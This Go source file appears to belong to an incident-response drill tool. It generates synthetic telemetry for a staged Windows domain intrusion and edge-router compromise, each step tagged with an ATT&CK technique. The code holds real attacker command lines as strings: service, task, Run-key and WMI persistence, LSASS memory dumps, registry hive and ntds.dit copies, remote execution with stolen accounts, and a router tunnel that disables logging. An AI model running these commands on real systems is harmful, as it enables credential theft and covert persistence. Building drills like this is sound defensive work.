package intrusion

import (
	"fmt"
	"strings"
	"time"

	"github.com/contrail-ir/contrail/drill/scene"
)

// settle makes the implant stay on the first host, in the hand's two ways; the first one starts it.
func (t *story) settle() {
	t.rest()
	t.persist(t.host, t.shell, t.Hand.Persistence[0], t.source, true)
	t.pause()
	t.persist(t.host, t.implant[t.host], t.Hand.Persistence[1], t.started[t.host], false)
}

// persist makes the implant start again by itself; with run it is started at once by what was made.
func (t *story) persist(h *scene.Host, by *scene.Process, way, cause string, run bool) {
	path, k := t.implantPath(h), t.Kit
	id := "persist-" + way + "-" + h.Name
	own := h.Session(scene.System, 5)
	var a *scene.Deed
	parent := h.Services
	flag := map[string]string{"service": "-s", "task": "-t", "runkey": "-r", "wmi": "-w"}[way]
	command := path + " " + flag
	var marks []*scene.Entry
	switch way {
	case "service":
		a = t.act(id, h, "T1543.003", "persistence", "The implant is made a service", cause)
		_, ran := t.do(t.now, by, `sc create `+k.Service+` binPath= "`+command+`" start= auto DisplayName= "`+k.Shown+`"`)
		a.Note(ran...)
		made := t.Service(t.now.Add(400*time.Millisecond), by.Session, h, k.Service, command, "auto start")
		a.Note(made...)
		marks = made
		t.Indicator("service", k.Service)
	case "task":
		a = t.act(id, h, "T1053.005", "persistence", "A task starts the implant again and again", cause)
		_, ran := t.do(t.now, by, `schtasks /create /f /ru SYSTEM /sc hourly /tn "`+k.Task+`" /tr "`+command+`"`)
		a.Note(ran...)
		made := t.Schedule(t.now.Add(400*time.Millisecond), by.Session, h, k.Task, path, flag)
		a.Note(made...)
		marks, parent = made, h.Svchost
		t.Indicator("task", k.Task)
	case "runkey":
		a = t.act(id, h, "T1547.001", "persistence", "A value in the registry starts the implant at logon", cause)
		p, ran := t.do(t.now, by, `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v `+k.RunValue+` /t REG_SZ /d "`+command+`" /f`)
		a.Note(ran...)
		value := t.Registry(t.now.Add(300*time.Millisecond), p, `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\`+k.RunValue, command).Joins(h.PathKey(path))
		a.Note(value)
		marks = append([]*scene.Entry{value}, ran...)
		parent = by
		t.Indicator("registry", `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\`+k.RunValue)
	case "wmi":
		a = t.act(id, h, "T1546.003", "persistence", "A subscription of WMI starts the implant", cause)
		p, ran := t.do(t.now, by, `powershell -c Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='`+k.RunValue+`';CommandLineTemplate='`+command+`'}`)
		a.Note(ran...)
		made := t.Subscribe(t.now.Add(500*time.Millisecond), p, k.RunValue, command)
		a.Note(made...)
		marks, parent = append(made, ran...), h.WMI
		t.Indicator("wmi", k.RunValue)
	}
	if t.implant[h] == nil {
		t.start("first-alert", marks...)
	}
	if !run {
		return
	}
	p, ran := t.Run(t.now.Add(6*time.Second), parent, path, command, own)
	a.Note(ran...)
	if way == "task" {
		a.Note(t.TaskRun(t.now.Add(6*time.Second-3*time.Millisecond), h, k.Task, path, p, 9*time.Second)...)
	}
	a.Note(t.Pipe(t.now.Add(7*time.Second), p, true, k.Pipe))
	t.Indicator("pipe", k.Pipe)
	t.arrived(h, p, id)
}

// look: what the hand always asks first.
func (t *story) look() {
	t.rest()
	a := t.act("discovery", t.host, "T1087.002", "discovery", "Domain, hosts and accounts are listed", t.started[t.host])
	for _, line := range t.Hand.Discovery {
		if strings.Contains(line, "%s") {
			line = fmt.Sprintf(line, t.Org.Domain)
		}
		_, ran := t.do(t.pause(), t.implant[t.host], line)
		a.Note(ran...)
	}
}

// passwords are taken from a host in one of the hand's ways.
func (t *story) passwords(h *scene.Host, way string) {
	if t.implant[h] == nil {
		return
	}
	t.rest()
	p, dir := t.implant[h], t.at(h)+t.Hand.Staging
	cause := t.started[h]
	switch way {
	case "comsvcs":
		a := t.act(way+"-"+h.Name, h, "T1003.001", "credential-access", "The memory of LSASS is written to a file", cause)
		q, ran := t.do(t.now, p, fmt.Sprintf(`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump %d %sl.dmp full`, h.LSASS.PID, dir))
		a.Note(ran...)
		a.Note(t.Open(t.now.Add(350*time.Millisecond), q, h.LSASS, 0x1fffff, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+3c3d4`), t.Create(t.now.Add(700*time.Millisecond), q, dir+"l.dmp"))
	case "lsass":
		a := t.act(way+"-"+h.Name, h, "T1003.001", "credential-access", "LSASS is read by the implant itself", cause)
		a.Note(t.Open(t.now, p, h.LSASS, 0x1410, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|`+t.implantPath(h)+`+1a2b4`))
	case "hives":
		a := t.act(way+"-"+h.Name, h, "T1003.002", "credential-access", "The account database is saved from the registry", cause)
		for _, hive := range []string{"SAM", "SYSTEM", "SECURITY"} {
			q, ran := t.do(t.pause(), p, `reg save HKLM\`+hive+` `+dir+hive+`.hiv /y`)
			a.Note(ran...)
			a.Note(t.Create(t.now.Add(time.Second), q, dir+hive+".hiv"))
		}
	case "dumper":
		a := t.act(way+"-"+h.Name, h, "T1003.001", "credential-access", "A public tool writes the memory of LSASS to a file", cause)
		file := t.at(h) + "dumper.exe"
		a.Note(t.Create(t.now, p, file))
		q, ran := t.do(t.pause(), p, file+` -accepteula -ma lsass.exe `+dir+`ls.dmp`)
		a.Note(ran...)
		a.Note(t.Open(t.now.Add(300*time.Millisecond), q, h.LSASS, 0x1fffff, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbghelp.dll+9247`), t.Create(t.now.Add(time.Second), q, dir+"ls.dmp"))
	}
}

// spread brings the implant to another host in one of the hand's ways, with a stolen account, and starts it there.
func (t *story) spread(h *scene.Host, way string, as scene.Account) {
	t.rest()
	from := t.order[len(t.order)-1]
	p, cause := t.implant[from], t.started[from]
	source := from.Here()
	path := t.implantPath(h)
	a := t.act("copy-"+h.Name, h, "T1021.002", "lateral-movement", "The implant is copied to "+h.Name+" with a stolen account", cause)
	q, ran := t.do(t.now, p, `net use \\`+h.Name+`\C$ /user:`+as.Full()+` *`)
	a.Note(ran...)
	at := t.now.Add(time.Second)
	se := h.Session(as, 3)
	a.Note(t.Explicit(at, q, as, h), t.Talk(p, scene.Flow{At: at, From: source, To: scene.Peer(h.IP, h.FQDN(), 445), User: as.Name, Out: int64(len(t.Content(t.Kit.File))) + 4000, In: 3000, Last: 40 * time.Second}).Joins(scene.FlowTo(source, h)))
	a.Note(t.Validate(at, as.Name, from.Name, true))
	logon := t.Logon(at.Add(100*time.Millisecond), se, source, from.Name)
	a.Note(logon...)
	a.Note(t.Share(at.Add(time.Second), se, source, "C$", `\??\C:\`, strings.TrimPrefix(path, `C:\`), 0x2)...)
	a.Note(t.Create(at.Add(1200*time.Millisecond), h.Svchost, path).Joins(se.Key()))
	if h == t.DB {
		t.start("mid-chain", append(logon, a.Entries()...)...)
	}
	t.pause()

	id := "start-" + h.Name
	next := "copy-" + h.Name
	own := h.Session(scene.System, 5)
	to := func(port uint16) *scene.Entry {
		return t.Connect(t.now.Add(900*time.Millisecond), p, true, source, scene.Peer(h.IP, h.FQDN(), port)).Joins(scene.FlowTo(source, h))
	}
	var b *scene.Deed
	var remote *scene.Process
	switch way {
	case "share-service":
		b = t.act(id, h, "T1569.002", "execution", "A service made from afar starts the implant", next, cause)
		_, ran := t.do(t.now, p, `sc \\`+h.Name+` create `+t.Kit.Service+` binPath= "`+path+` -s"`)
		b.Note(ran...)
		b.Note(t.Share(t.now.Add(800*time.Millisecond), se, source, "IPC$", "", "svcctl", 0x12019f)...)
		b.Note(t.Service(t.now.Add(time.Second), se, h, t.Kit.Service, path+" -s", "demand start")...)
		remote, ran = t.Run(t.now.Add(2*time.Second), h.Services, path, path+" -s", own)
		b.Note(ran...)
		t.Indicator("service", t.Kit.Service)
	case "wmi":
		b = t.act(id, h, "T1047", "execution", "WMI starts the implant from afar", next, cause)
		_, ran := t.do(t.now, p, `wmic /node:`+h.Name+` /user:`+as.Full()+` process call create "`+path+` -s"`)
		b.Note(ran...)
		b.Note(to(135))
		remote, ran = t.Run(t.now.Add(2*time.Second), h.WMI, path, path+" -s", se)
		b.Note(ran...)
	case "winrm":
		b = t.act(id, h, "T1021.006", "execution", "PowerShell remoting starts the implant from afar", next, cause)
		_, ran := t.do(t.now, p, `powershell -c Invoke-Command -ComputerName `+h.Name+` -ScriptBlock { Start-Process `+path+` -s }`)
		b.Note(ran...)
		b.Note(to(5985))
		host, ran := t.Run(t.now.Add(1500*time.Millisecond), h.Svchost, scene.System32+"wsmprovhost.exe", `C:\Windows\system32\wsmprovhost.exe -Embedding`, se)
		b.Note(ran...)
		remote, ran = t.Run(t.now.Add(2*time.Second), host, path, path+" -s", se)
		b.Note(ran...)
	case "task":
		b = t.act(id, h, "T1053.005", "execution", "A task made from afar starts the implant", next, cause)
		_, ran := t.do(t.now, p, `schtasks /create /s `+h.Name+` /ru SYSTEM /sc once /st 00:00 /tn "`+t.Kit.Task+`" /tr "`+path+` -s"`)
		b.Note(ran...)
		b.Note(t.Share(t.now.Add(800*time.Millisecond), se, source, "IPC$", "", "atsvc", 0x12019f)...)
		b.Note(t.Schedule(t.now.Add(time.Second), se, h, t.Kit.Task, path, "-s")...)
		remote, ran = t.Run(t.now.Add(2*time.Second), h.Svchost, path, path+" -s", own)
		b.Note(ran...)
		b.Note(t.TaskRun(t.now.Add(2*time.Second-3*time.Millisecond), h, t.Kit.Task, path, remote, 9*time.Second)...)
		t.Indicator("task", t.Kit.Task)
	}
	b.Note(t.Pipe(t.now.Add(3*time.Second), remote, true, t.Kit.Pipe))
	t.arrived(h, remote, id)
	t.session[h] = se
	t.pause()
	if t.r.IntN(2) == 0 || h == t.DB {
		t.persist(h, remote, t.Hand.Persistence[0], id, false)
	}
}

// domain: the domain's passwords, by the account that was stolen.
func (t *story) domain() {
	t.rest()
	h, from := t.DC, t.App
	p := t.implant[from]
	source := from.Here()
	as := t.Administrator()
	se := h.Session(as, 3)
	a := t.act("ntds", h, "T1003.003", "credential-access", "The domain's database is copied", t.started[from])
	line := `ntdsutil "ac i ntds" "ifm" "create full ` + t.at(h) + t.Hand.Staging + `n" q q`
	_, ran := t.do(t.now, p, `wmic /node:`+h.Name+` process call create '`+line+`'`)
	a.Note(ran...)
	a.Note(t.Connect(t.now.Add(time.Second), p, true, source, scene.Peer(h.IP, h.FQDN(), 135)).Joins(scene.FlowTo(source, h)))
	a.Note(t.Logon(t.now.Add(1100*time.Millisecond), se, source, from.Name)...)
	q, ran := t.Run(t.now.Add(2*time.Second), h.WMI, scene.System32+"ntdsutil.exe", line, se)
	a.Note(ran...)
	a.Note(t.Create(t.now.Add(5*time.Second), q, t.at(h)+t.Hand.Staging+`n\Active Directory\ntds.dit`), t.End(t.now.Add(40*time.Second), q))
}

// router: from the application server to the edge router, whose configuration is read and given a tunnel.
func (t *story) router() {
	if t.Router == nil {
		return
	}
	t.rest()
	from := t.App
	p := t.implant[from]
	a := t.act("router", t.Router, "T1602.002", "collection", "The router's configuration is read, and a tunnel to the intruder is put into it", t.started[from])
	q, ran := t.do(t.now, p, t.at(from)+`plink.exe -ssh -batch -l netops `+t.Router.IP+` "show running-config"`)
	a.Note(ran...)
	a.Note(t.Talk(q, scene.Flow{At: t.now.Add(time.Second), From: from.Here(), To: scene.Peer(t.Router.IP, t.Router.FQDN(), 22), User: "netops", Out: 4000, In: 60000, Last: time.Minute}).Joins("address:" + t.Router.Name + ":" + from.IP))
	a.Note(t.DeviceLogin(t.now.Add(2*time.Second), "netops", from.IP, true))
	a.Note(t.Command(t.now.Add(5*time.Second), "netops", from.IP, true, t.tunnel()...)...)
	t.Indicator("ip", t.Kit.Relay)
}

// tunnel is what the intruder tells a router.
func (t *story) tunnel() []string {
	return []string{"show version", "show running-config", "configure terminal", fmt.Sprintf("interface Tunnel%d", 60+t.r.IntN(30)), "tunnel source GigabitEthernet0/0/0",
		"tunnel destination " + t.Kit.Relay, "no logging host " + t.Network.Inside + ".60", "end", "write memory"}
}

// hop: the router alone, from the internet, and what passes through it afterwards.
func (t *story) hop() {
	a := t.act("router-login", t.Router, "T1078", "initial-access", "The intruder logs in to the edge router from the internet")
	from := t.Kit.From
	for i := range 3 {
		a.Note(t.DeviceLogin(t.now.Add(time.Duration(i*20)*time.Second), []string{"admin", "cisco", "netops"}[i], from, i == 2))
	}
	t.wait(2 * time.Minute)
	b := t.act("router-tunnel", t.Router, "T1572", "command-and-control", "A tunnel is put into the router, and its log is turned off", "router-login")
	b.Note(t.Command(t.now, "netops", from, true, t.tunnel()...)...)
	c := t.act("relay", t.Router, "T1090.002", "command-and-control", "The intruder's connections to others pass through the router", "router-login", "router-tunnel")
	for i := range 40 {
		t.wait(2 * time.Hour)
		if t.now.After(t.At(t.Days-1, 0, 0, 0)) {
			break
		}
		e := t.Flow(scene.Flow{At: t.now, From: scene.Peer(from, "", uint16(20000+i)), To: scene.Peer(t.Router.IP, "", 22), Out: 40000 + t.r.Int64N(90000), In: 90000 + t.r.Int64N(900000), Last: 20 * time.Minute})
		for _, x := range e {
			c.Note(x.Joins("address:" + t.Router.Name + ":" + from))
		}
		c.Note(t.Flow(scene.Flow{At: t.now.Add(4 * time.Second), From: t.Router.Here(), To: scene.Peer(t.Kit.Relay, "", 443), Out: 90000, In: 90000, Last: 20 * time.Minute})...)
	}
}
